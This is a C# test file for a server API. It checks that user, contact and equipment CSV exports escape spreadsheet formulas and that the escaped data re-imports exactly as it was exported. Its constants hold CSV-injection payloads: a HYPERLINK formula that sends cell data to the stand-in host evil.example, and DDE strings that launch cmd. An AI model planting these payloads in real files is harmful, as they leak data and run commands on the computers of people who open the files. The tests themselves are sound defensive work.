using System.Globalization;
using System.Net;
using System.Text;
using CsvHelper;
using Sophia.Server.Tests.Fixtures;

namespace Sophia.Server.Tests.Api;

/// <summary>
/// Names, labels and serial numbers that a spreadsheet would run as formulas go out of every export behind a quote,
/// phone numbers as they are, and each export re-imports to exactly what was exported.
/// </summary>
public sealed class CsvInjectionApiTests(SophiaFactory factory) : IClassFixture<SophiaFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Seldon\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    private const string At = "@SUM(1+1)*cmd|' /C calc'!A0";

    [Fact]
    public async Task The_users_export_escapes_formulas_and_re_imports_them_as_they_were()
    {
        var (admin, ids) = await Admin();
        var site = await admin.PostJson($"/api/v1/clients/{ids.ClientId}/sites", new { name = "Formules" }, HttpStatusCode.Created);
        var user = await admin.PostJson($"/api/v1/sites/{site.Int("id")}/users", new
        {
            lastName = Hyperlink,
            firstName = Dde,
            function = Minus,
            description = At,
            civility = "'=1+1",
            mobile = "+33611223344",
            login = "formule@15rp.sewan.eu",
        }, HttpStatusCode.Created);

        var csv = await Export(admin, $"/api/v1/sites/{site.Int("id")}/users?format=csv");
        var row = Rows(csv).Single(r => r["Login"] == "formule@15rp.sewan.eu");
        Assert.Equal(("'" + Hyperlink, "'" + Dde, "'" + Minus, "'" + At, "''=1+1", "+33611223344"),
            (row["LastName"], row["FirstName"], row["Function"], row["Description"], row["Civility"], row["Mobile"]));

        using (var deleted = await admin.DeleteAsync($"/api/v1/users/{user.Int("id")}"))
        {
            Assert.Equal(HttpStatusCode.NoContent, deleted.StatusCode);
        }
        var other = await admin.PostJson($"/api/v1/clients/{ids.ClientId}/sites", new { name = "Formules 2" }, HttpStatusCode.Created);
        using (var imported = await admin.PostAsync($"/api/v1/sites/{other.Int("id")}/users/import", Csv(csv)))
        {
            Assert.Equal(1, (await imported.Json()).Int("count"));
        }
        var back = Assert.Single((await admin.GetJson($"/api/v1/sites/{other.Int("id")}/users")).Items());
        foreach (var field in new[] { "lastName", "firstName", "function", "description", "civility", "mobile", "login" })
        {
            Assert.Equal(user.GetProperty(field).GetRawText(), back.GetProperty(field).GetRawText());
        }
    }

    [Fact]
    public async Task The_numbers_export_leaves_phone_numbers_readable_as_they_are()
    {
        var (admin, ids) = await Admin();
        await admin.PostJson($"/api/v1/sites/{ids.Wagram}/numbers", new { number = "+33185737699" }, HttpStatusCode.Created);

        var csv = await Export(admin, $"/api/v1/sites/{ids.Wagram}/numbers?format=csv");

        Assert.Contains(Rows(csv), r => r["Number"] == "+33185737699" && r["National"].StartsWith('0'));
    }

    [Fact]
    public async Task The_external_contacts_export_escapes_formulas_and_re_imports_into_another_client()
    {
        var helpdesk = await factory.ClientFor(SophiaFactory.Helpdesk);
        var (admin, ids) = await Admin();
        var url = $"/api/v1/clients/{ids.ClientId}/contacts/external";
        var contact = await admin.PostJson(url, new { lastName = Hyperlink, firstName = Dde, company = At, jobTitle = Minus, phone = "+33354692077", mobile = "+33612002077" },
            HttpStatusCode.Created);

        var csv = await Export(admin, $"{url}?format=csv");
        var row = Rows(csv).Single(r => r["Phone"] == "+33354692077");
        Assert.Equal(("'" + Hyperlink, "'" + Dde, "'" + At, "'" + Minus, "+33612002077"),
            (row["LastName"], row["FirstName"], row["Company"], row["JobTitle"], row["Mobile"]));

        var other = await OtherClient.CreateAsync(helpdesk, "Formules Annuaire");
        var otherUrl = $"/api/v1/clients/{other.ClientId}/contacts/external";
        using (var imported = await helpdesk.PostAsync($"{otherUrl}/import", Csv(csv)))
        {
            await imported.Json();
        }
        var back = (await helpdesk.GetJson($"{otherUrl}?pageSize=500")).Items().Single(c => c.Str("phone") == "+33354692077");
        foreach (var field in new[] { "lastName", "firstName", "company", "jobTitle", "phone", "mobile", "shortNumber", "mobileShortNumber" })
        {
            Assert.Equal(contact.GetProperty(field).GetRawText(), back.GetProperty(field).GetRawText());
        }
    }

    [Fact]
    public async Task A_users_personal_contacts_export_escapes_formulas_and_imports_back_as_they_were()
    {
        var lu = await factory.ClientFor(SophiaFactory.Lu);
        var ids = await DemoIds.Read(await factory.ClientFor(SophiaFactory.Admin15Rp));
        var url = $"/api/v1/users/{ids.Lu}/contacts";
        var contact = await lu.PostJson(url, new { civility = "-", lastName = Hyperlink, firstName = Dde, company = At, jobTitle = Minus, phone = "+33611223399" },
            HttpStatusCode.Created);

        var csv = await Export(lu, $"{url}?format=csv");
        var row = Rows(csv).Single(r => r["Phone"] == "+33611223399");
        Assert.Equal(("-", "'" + Hyperlink, "'" + Dde, "'" + At, "'" + Minus), (row["Civility"], row["LastName"], row["FirstName"], row["Company"], row["JobTitle"]));

        using (var deleted = await lu.DeleteAsync($"{url}/{contact.Int("id")}"))
        {
            Assert.Equal(HttpStatusCode.NoContent, deleted.StatusCode);
        }
        var header = csv.Split('\n')[0];
        var line = csv.Split('\n').Single(l => l.Contains("+33611223399", StringComparison.Ordinal));
        using (var imported = await lu.PostAsync($"{url}/import", Csv(header + "\n" + line + "\n")))
        {
            Assert.Equal(1, (await imported.Json()).Int("count"));
        }
        var back = (await lu.GetJson($"{url}?pageSize=500")).Items().Single(c => c.Str("phone") == "+33611223399");
        foreach (var field in new[] { "civility", "lastName", "firstName", "company", "jobTitle", "phone" })
        {
            Assert.Equal(contact.GetProperty(field).GetRawText(), back.GetProperty(field).GetRawText());
        }
    }

    [Fact]
    public async Task The_equipment_export_escapes_a_formula_serial_and_label_and_re_imports_them_as_they_were()
    {
        var (admin, ids) = await Admin();
        const string mac = "00:15:65:AA:0F:01";
        await admin.PostJson($"/api/v1/clients/{ids.ClientId}/equipment", new { mac, model = "T46U", serialNumber = Minus, label = Hyperlink },
            HttpStatusCode.Created);

        var csv = await Export(admin, $"/api/v1/clients/{ids.ClientId}/equipment?format=csv");
        var row = Rows(csv).Single(r => r["Mac"] == mac);
        Assert.Equal(("'" + Minus, "'" + Hyperlink), (row["Serial"], row["Label"]));

        using (var deleted = await admin.DeleteAsync($"/api/v1/equipment/{mac}"))
        {
            Assert.Equal(HttpStatusCode.NoContent, deleted.StatusCode);
        }
        var header = csv.Split('\n')[0];
        var line = csv.Split('\n').Single(l => l.StartsWith(mac, StringComparison.Ordinal));
        using (var imported = await admin.PostAsync($"/api/v1/clients/{ids.ClientId}/equipment/import", Csv(header + "\n" + line + "\n")))
        {
            Assert.Equal(1, (await imported.Json()).Int("count"));
        }
        var back = await admin.GetJson($"/api/v1/equipment/{mac}");
        Assert.Equal((Minus, Hyperlink), (back.Str("serialNumber"), back.Str("label")));
    }

    private async Task<(HttpClient Admin, DemoIds Ids)> Admin()
    {
        var admin = await factory.ClientFor(SophiaFactory.Admin15Rp);
        return (admin, await DemoIds.Read(admin));
    }

    private static async Task<string> Export(HttpClient http, string url)
    {
        using var response = await http.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsStringAsync();
    }

    /// <summary>The file's rows as raw cells by column, as a spreadsheet receives them.</summary>
    private static List<Dictionary<string, string>> Rows(string csv)
    {
        using var parser = new CsvParser(new StringReader(csv), CultureInfo.InvariantCulture);
        parser.Read();
        var header = parser.Record!;
        var rows = new List<Dictionary<string, string>>();
        while (parser.Read())
        {
            rows.Add(header.Select((h, i) => (h, parser.Record![i])).ToDictionary(c => c.h, c => c.Item2));
        }
        return rows;
    }

    private static StringContent Csv(string text) => new(text, Encoding.UTF8, "text/csv");
}
